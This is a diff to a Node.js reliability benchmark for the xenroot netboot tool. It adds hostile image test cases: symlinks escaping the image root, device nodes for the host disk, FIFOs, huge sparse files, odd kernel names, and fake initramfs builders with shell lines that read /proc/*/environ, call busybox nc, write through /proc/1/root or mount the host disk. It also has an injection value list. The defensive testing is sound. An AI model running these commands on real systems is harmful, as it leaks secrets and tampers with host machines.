@@ -9,16 +9,25 @@
 //   node bench/reliability.mjs            (defaults: every value, 3 SIGKILL trials)
 //   RELIABILITY_VALUES=4 RELIABILITY_KILLS=1 RELIABILITY_FS=0 node bench/reliability.mjs   (a slice)
 //   RELIABILITY_JSON=1: the figures as JSON on stdout.
+//   RELIABILITY_IMAGES=0 leaves out the hostile images (a slice, RELIABILITY_VALUES set, does too unless =1) (links out of the root, device files, FIFOs,
+//   huge files, odd names, a hostile distro builder; root and the cached tiny image needed), and
+//   RELIABILITY_IMAGES_ONLY=1 runs only them, RELIABILITY_IMAGES_SKIP=REGEX leaves cases out by name,
+//   RELIABILITY_IMAGE_TIMEOUT_MS (default 120000) bounds each command.
 import { execFileSync, spawn, spawnSync } from 'node:child_process';
-import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync, readdirSync } from 'node:fs';
+import { closeSync, existsSync, mkdirSync, mkdtempSync, openSync, readFileSync, readSync, realpathSync, rmSync, statSync, symlinkSync, writeFileSync, readdirSync } from 'node:fs';
+import { createServer } from 'node:net';
 import { tmpdir } from 'node:os';
-import { dirname, join } from 'node:path';
+import { dirname, join, relative } from 'node:path';
+import { gunzipSync } from 'node:zlib';
 import { fileURLToPath } from 'node:url';
 
 const CLI = fileURLToPath(new URL('../bin/xenroot.js', import.meta.url));
 const N_VALUES = Number(process.env.RELIABILITY_VALUES ?? 1e9);
 const N_KILLS = Number(process.env.RELIABILITY_KILLS ?? 3);
-const DO_FS = process.env.RELIABILITY_FS !== '0' && process.getuid?.() === 0;
+const ONLY_IMAGES = process.env.RELIABILITY_IMAGES_ONLY === '1';
+const DO_FS = !ONLY_IMAGES && process.env.RELIABILITY_FS !== '0' && process.getuid?.() === 0;
+// A slice (RELIABILITY_VALUES set, as test/hardening/reliability.test.ts runs it) leaves the images out unless RELIABILITY_IMAGES=1.
+const DO_IMAGES = (process.env.RELIABILITY_IMAGES ?? (process.env.RELIABILITY_VALUES && !ONLY_IMAGES ? '0' : '1')) !== '0' && process.getuid?.() === 0;
 
 const HOSTILE = [
   'quiet ; chain http://192.0.2.9/x.ipxe', 'a;b', '$HOME', '${net0/mac}', "it's", 'say "hi"', 'back\\slash', 'line\nbreak', 'nul\u0000byte',
@@ -84,6 +93,13 @@ function probe(category, label, fx, args) {
 const base = mkdtempSync(join(tmpdir(), 'xenroot-reliability-'));
 const t0 = performance.now();
 try {
+  if (!ONLY_IMAGES) await valueProbes();
+  if (DO_IMAGES) await hostileImages();
+} finally {
+  rmSync(base, { recursive: true, force: true });
+}
+
+async function valueProbes() {
   const fx = fixture(base);
   const FLAGS = [
     ['client add', (v) => ['client', 'add', '00:16:3e:00:00:09', '--name', v], 'name'],
@@ -196,8 +212,200 @@ try {
       }
     }
   }
-} finally {
-  rmSync(base, { recursive: true, force: true });
+}
+
+/** The cached tiny image (test/support/kernel.ts builds it: any test run that needs it). */
+function tinyImageDir() {
+  const cache = process.env.XENROOT_CACHE ?? fileURLToPath(new URL('../.cache/', import.meta.url));
+  const dir = join(cache, 'images');
+  const name = existsSync(dir) && readdirSync(dir).filter((n) => /^tiny-.*-v\d+$/.test(n)).sort().at(-1);
+  return name ? join(dir, name) : undefined;
+}
+
+/**
+ * Hostile images: a hard-linked copy of the tiny image with one hostile change, added with
+ * `image add` and built with `initrd build --target xen` (or a hostile distro builder). Handled:
+ * the commands end (within 120 s) with success or a one-line error, no file under the boot dir
+ * holds the root-only secret (or the host disk's first bytes), no proof file appears, and no
+ * connection reaches the host's loopback listener.
+ */
+async function hostileImages() {
+  const tiny = tinyImageDir();
+  if (!tiny) {
+    console.error('hostile images: no cached tiny image (run test/initrd/builtin.test.ts once); left out');
+    return;
+  }
+  const kver = readdirSync(join(tiny, 'lib/modules'))[0];
+  const secretDir = mkdtempSync(join(base, 'root-only-'));
+  const secret = `ROOT-ONLY-${process.pid}-${Date.now()}`;
+  const secretFile = join(secretDir, 'shadow');
+  writeFileSync(secretFile, `${secret}\n`, { mode: 0o600 });
+  writeFileSync(join(secretDir, 'xen-netfront.ko'), `${secret}\n`, { mode: 0o600 });
+  const rootDev = statSync('/').dev;
+  const diskHead = (() => {
+    // The first bytes of the host's root block device, as a block-device node would leak them.
+    const dev = readlinkSafe(`/sys/dev/block/${Math.floor(rootDev / 256)}:${rootDev % 256}`);
+    try {
+      const b = Buffer.alloc(4096);
+      const fd = openSync(`/dev/${dev.split('/').pop()}`, 'r');
+      readSync(fd, b, 0, 4096, 1 << 20);
+      closeSync(fd);
+      return b.some((x) => x !== 0) ? b.subarray(0, 64) : undefined;
+    } catch {
+      return undefined;
+    }
+  })();
+  const mod = `lib/modules/${kver}/kernel/drivers/net/xen-netfront.ko`;
+  const dep = `lib/modules/${kver}/modules.dep`;
+  const replace = (img, rel, make) => {
+    rmSync(join(img, rel), { recursive: true, force: true });
+    make(join(img, rel));
+  };
+  const link = (target) => (p) => symlinkSync(target, p);
+  const climb = (img, rel, to) => relative(dirname(join(img, rel)), to);
+  const node = (...a) => (p) => execFileSync('mknod', [p, ...a]);
+  const fifo = (p) => execFileSync('mkfifo', [p]);
+  const sparse = (size) => (p) => execFileSync('truncate', ['-s', String(size), p]);
+  const editDep = (fn) => (img) => {
+    const p = join(img, dep);
+    const text = readFileSync(p, 'utf8');
+    rmSync(p);
+    writeFileSync(p, fn(text, img));
+  };
+  const oddKver = (name) => (img) => {
+    const n = Buffer.isBuffer(name) ? name : Buffer.from(name);
+    execFileSync('cp', ['-al', join(img, 'lib/modules', kver), Buffer.concat([Buffer.from(join(img, 'lib/modules') + '/'), n]).toString('latin1')], { encoding: 'buffer' });
+    writeFileSync(Buffer.concat([Buffer.from(join(img, 'boot') + '/vmlinuz-'), n]), 'not a kernel');
+    // The real kernel goes: only the odd name is left to detect.
+    rmSync(join(img, 'boot', `vmlinuz-${kver}`));
+  };
+  const builder = (body) => (img) => {
+    mkdirSync(join(img, 'usr/sbin'), { recursive: true });
+    writeFileSync(join(img, 'usr/sbin/mkinitramfs'), `#!/bin/busybox sh\nwhile [ $# -gt 0 ]; do [ "$1" = -o ] && OUT="$2"; shift; done\n${body}\nexit 0\n`, { mode: 0o755 });
+  };
+  const proof = join(secretDir, 'proof');
+  const CASES = [
+    ['links', 'kernel -> a root-only host file (absolute)', (img) => replace(img, `boot/vmlinuz-${kver}`, link(secretFile))],
+    ['links', 'kernel -> ../../.. to a host file (relative)', (img) => replace(img, `boot/vmlinuz-${kver}`, link(climb(img, `boot/vmlinuz-${kver}`, secretFile)))],
+    ['links', 'kernel -> itself (a loop)', (img) => replace(img, `boot/vmlinuz-${kver}`, link(`vmlinuz-${kver}`))],
+    ['links', 'module -> a host file (absolute)', (img) => replace(img, mod, link(secretFile))],
+    ['links', 'module -> ../.. to a host file (relative)', (img) => replace(img, mod, link(climb(img, mod, secretFile)))],
+    ['links', 'modules.dep -> a host file', (img) => {
+      writeFileSync(join(secretDir, 'dep'), `${join(secretDir, 'xen-netfront.ko')}:\n`);
+      replace(img, dep, link(join(secretDir, 'dep')));
+    }],
+    ['links', 'modules.dep names an absolute host path', editDep((t) => t.replace(/^kernel\/drivers\/net\/xen-netfront\.ko:/m, `${join(secretDir, 'xen-netfront.ko')}:`))],
+    ['links', 'modules.dep names ../ out of the root', editDep((t, img) => t.replace(/^kernel\/drivers\/net\/xen-netfront\.ko:/m, `${relative(join(img, 'lib/modules', kver), join(secretDir, 'xen-netfront.ko'))}:`))],
+    ['links', 'lib/modules -> a host copy (absolute)', (img) => {
+      execFileSync('cp', ['-al', join(img, 'lib/modules'), join(secretDir, `modules-${img.split('-').pop()}`)]);
+      replace(img, 'lib/modules', link(join(secretDir, `modules-${img.split('-').pop()}`)));
+    }],
+    ['links', 'lib -> / (the host root)', (img) => replace(img, 'lib', link('/'))],
+    ['links', 'bin/busybox -> the host busybox', (img) => replace(img, 'bin/busybox', link('/bin/busybox'))],
+    ['device files', 'module is /dev/null (char 1:3)', (img) => replace(img, mod, node('c', '1', '3'))],
+    ['device files', 'kernel is /dev/zero (char 1:5)', (img) => replace(img, `boot/vmlinuz-${kver}`, node('c', '1', '5'))],
+    ['device files', 'module is the host root disk (block)', (img) => replace(img, mod, node('b', String(Math.floor(rootDev / 256)), String(rootDev % 256)))],
+    ['device files', 'module is a FIFO', (img) => replace(img, mod, fifo)],
+    ['device files', 'kernel is a FIFO', (img) => replace(img, `boot/vmlinuz-${kver}`, fifo)],
+    ['device files', 'modules.dep is a FIFO', (img) => replace(img, dep, fifo)],
+    ['device files', 'bin/busybox is a FIFO', (img) => replace(img, 'bin/busybox', fifo)],
+    ['huge files', 'kernel of 1 GiB (sparse)', (img) => replace(img, `boot/vmlinuz-${kver}`, sparse(1 << 30))],
+    ['huge files', 'module of 3 GiB (sparse)', (img) => replace(img, mod, sparse(3 * 2 ** 30))],
+    ['huge files', 'modules.dep of 3 GiB (sparse)', (img) => replace(img, dep, sparse(3 * 2 ** 30))],
+    ['odd names', 'kernel release with a newline', oddKver('6.1.0\nevil')],
+    ['odd names', 'kernel release with spaces', oddKver('6.1.0 evil x')],
+    ['odd names', 'kernel release with a leading dash', oddKver('-rf')],
+    ['odd names', 'kernel release not UTF-8', oddKver(Buffer.from([0x36, 0x2e, 0xff, 0xfe]))],
+    ['odd names', 'module path with a leading dash in modules.dep', editDep((t) => t.replace(/^kernel\/drivers\/net\/xen-netfront\.ko:/m, '-xen-netfront.ko:'))],
+    ['hostile builder', 'reads every /proc/*/environ', builder(`cat /proc/[0-9]*/environ > "$OUT"`)],
+    ['hostile builder', 'connects to the host loopback', builder('busybox nc -w 2 127.0.0.1 PORT </dev/null > "$OUT" 2>&1')],
+    ['hostile builder', 'writes the host through /proc/1/root', builder(`echo pwned > /proc/1/root${proof}; echo x > "$OUT"`)],
+    ['hostile builder', 'writes a kernel setting', builder('v=$(cat /proc/sys/kernel/printk_ratelimit); echo "$v" > /proc/sys/kernel/printk_ratelimit && touch /proc/1/root' + proof + '-sysctl; echo x > "$OUT"')],
+    ['hostile builder', 'mounts the host disk', builder(`mkdir -p /tmp/m; mknod /tmp/d b ${Math.floor(rootDev / 256)} ${rootDev % 256}; mount /tmp/d /tmp/m && cp /tmp/m${secretFile} "$OUT"`)],
+  ];
+  // A secret held in a host process's environment, for the environ case.
+  const holder = spawn('sleep', ['3600'], { env: { XENROOT_BENCH_SECRET: secret }, stdio: 'ignore' });
+  let connections = 0;
+  const server = createServer((sock) => {
+    connections++;
+    sock.destroy();
+  });
+  await new Promise((res) => server.listen(0, '127.0.0.1', res));
+  const port = () => server.address()?.port ?? 1;
+  try {
+    let i = 0;
+    for (const [category, name, spoil] of CASES) {
+      // RELIABILITY_IMAGES_SKIP=REGEX leaves cases out (on a build that copies /dev/zero, that one fills the disk).
+      if (process.env.RELIABILITY_IMAGES_SKIP && new RegExp(process.env.RELIABILITY_IMAGES_SKIP).test(name)) continue;
+      const dir = mkdtempSync(join(base, 'img-case-'));
+      const img = join(dir, `image-${++i}`);
+      execFileSync('cp', ['-al', tiny, img]);
+      spoil(img);
+      if (category === 'hostile builder') {
+        const p = join(img, 'usr/sbin/mkinitramfs');
+        writeFileSync(p, readFileSync(p, 'utf8').replace('PORT', String(port())), { mode: 0o755 });
+      }
+      const boot = join(dir, 'boot');
+      const inv = join(dir, 'inventory.yaml');
+      const env = { XENROOT_STATE_DIR: join(dir, 'state') };
+      const steps = [['init', '--nfs-server', '127.0.0.1', '--boot-dir', boot, '--allow', '127.0.0.0/8'], ['image', 'add', 'evil', '--root', img, ...(category === 'odd names' ? [] : ['--kver', kver])], ['initrd', 'build', 'evil', '--target', 'xen', ...(category === 'hostile builder' ? ['--builder', 'initramfs-tools'] : [])]];
+      const before = connections;
+      let ok = true;
+      let detail = '';
+      for (const st of steps) {
+        const r = runWith(inv, st, env);
+        detail = `${st.slice(0, 2).join(' ')}: exit ${r.code}: ${r.stderr.split('\n').find((l) => l && !l.startsWith('{'))?.slice(0, 140) ?? ''}`;
+        if (!cleanFailure(r)) ok = false;
+        if (r.code !== 0) break;
+      }
+      await new Promise((res) => setTimeout(res, 100)); // the listener accepts what the kernel queued meanwhile
+      const leaked = filesHolding(boot, [Buffer.from(secret), ...(diskHead ? [diskHead] : [])]);
+      if (leaked.length) (ok = false), (detail += `; leaked into ${leaked.join(', ')}`);
+      if (existsSync(proof) || existsSync(`${proof}-sysctl`)) (ok = false), (detail += '; proof file written on the host');
+      rmSync(proof, { force: true });
+      rmSync(`${proof}-sysctl`, { force: true });
+      if (connections !== before) (ok = false), (detail += '; a connection reached the host');
+      record(`image: ${category}`, name, ok, detail);
+      rmSync(dir, { recursive: true, force: true });
+    }
+  } finally {
+    holder.kill('SIGKILL');
+    server.close();
+  }
+}
+
+/** run() with a longer time limit (an initrd build) and extra environment. */
+function runWith(inv, args, env) {
+  const r = spawnSync('node', [CLI, '-i', inv, ...args], { cwd: dirname(inv), encoding: 'utf8', env: { ...process.env, XENROOT_LOG_JSON: '1', ...env }, timeout: Number(process.env.RELIABILITY_IMAGE_TIMEOUT_MS ?? 120_000), killSignal: 'SIGKILL', maxBuffer: 1 << 26 });
+  return { code: r.status ?? -1, stdout: r.stdout ?? '', stderr: r.stderr ?? '', signal: r.signal };
+}
+
+function readlinkSafe(p) {
+  try {
+    return realpathSync(p);
+  } catch {
+    return '';
+  }
+}
+
+/** Files under `dir` whose bytes (gunzipped where gzip) hold one of `needles`. */
+function filesHolding(dir, needles) {
+  const hits = [];
+  if (!existsSync(dir)) return hits;
+  for (const e of readdirSync(dir, { recursive: true, withFileTypes: true })) {
+    if (!e.isFile()) continue;
+    const p = join(e.parentPath, e.name);
+    let data = readFileSync(p);
+    if (data[0] === 0x1f && data[1] === 0x8b) {
+      try {
+        data = gunzipSync(data);
+      } catch {
+        /* not gzip after all */
+      }
+    }
+    if (needles.some((n) => data.includes(n))) hits.push(p);
+  }
+  return hits;
 }
 
 let tried = 0;
